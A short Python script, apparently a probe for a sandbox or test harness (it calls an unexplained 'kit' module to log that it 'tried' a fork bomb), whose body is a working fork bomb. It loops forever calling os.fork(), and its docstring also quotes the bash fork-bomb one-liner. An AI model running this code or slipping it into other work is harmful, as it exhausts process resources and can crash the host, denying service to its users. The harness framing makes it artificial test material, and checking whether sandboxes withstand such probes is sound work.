"""Forks as fast as it can, in every child too.

Idea: `:(){ :|:& };:`.
"""

import os

import kit

kit.honest()
kit.note({"tried": "fork bomb"})
while True:
    try:
        os.fork()
    except OSError:
        pass
